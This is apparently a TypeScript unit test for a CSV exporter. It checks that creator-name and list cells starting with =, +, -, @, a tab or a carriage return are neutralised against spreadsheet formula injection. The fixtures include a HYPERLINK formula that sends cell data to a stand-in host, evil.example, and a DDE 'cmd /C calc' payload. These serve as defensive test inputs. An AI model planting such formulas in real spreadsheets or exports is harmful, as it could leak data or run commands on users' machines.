/**
 * A text cell that a spreadsheet would run (CSV injection, OWASP): a creator's display name in a dataset
 * is data the data team took from a platform, so an answer must not carry it as a formula to the
 * buyer's spreadsheet. Numbers stay numbers.
 */
import { expect, test } from 'bun:test'
import type { TableColumn } from '../../src/catalog/table'
import { csvField, tableCsv } from '../../src/formats/csv'

const column = (name: string, kind: TableColumn['kind']): TableColumn => ({
  name,
  kind,
  nullable: true,
  value: (row) => (row as Record<string, unknown>)[name],
})

test('cells beginning with = + - @ a tab or a CR are written with a leading quote; plain numbers are not', () => {
  const columns = [column('creator_name', 'text'), column('score', 'double'), column('platforms', 'text_list')]
  const rows = [
    { creator_name: '=HYPERLINK("http://evil.example/?d="&A2,"Click")', score: -12.5, platforms: ['douyin'] },
    { creator_name: "@SUM(1+1)*cmd|' /C calc'!A0", score: 3, platforms: ['=1+1', 'wechat'] },
    { creator_name: '+33 612', score: 0, platforms: [] },
    { creator_name: '-1', score: -0.5, platforms: ['xiaohongshu'] },
    { creator_name: '\tTabbed', score: 1e-7, platforms: null },
    { creator_name: 'Velvet Moth = best', score: 2, platforms: null },
  ]
  const lines = tableCsv(columns, rows).split('\r\n')
  expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.example/?d=""&A2,""Click"")",-12.5,douyin`)
  expect(lines[2]).toBe(`'@SUM(1+1)*cmd|' /C calc'!A0,3,'=1+1;wechat`)
  expect(lines[3]).toBe(`'+33 612,0,""`)
  expect(lines[4]).toBe('-1,-0.5,xiaohongshu')
  expect(lines[5]).toBe(`'\tTabbed,1e-7,`)
  expect(lines[6]).toBe('Velvet Moth = best,2,')
})

test('a CR at the start is neutralised and the field still quoted as RFC 4180 asks', () => {
  expect(csvField('\r=1+1')).toBe(`"'\r=1+1"`)
  expect(csvField('')).toBe('""')
  expect(csvField(null)).toBe('')
})
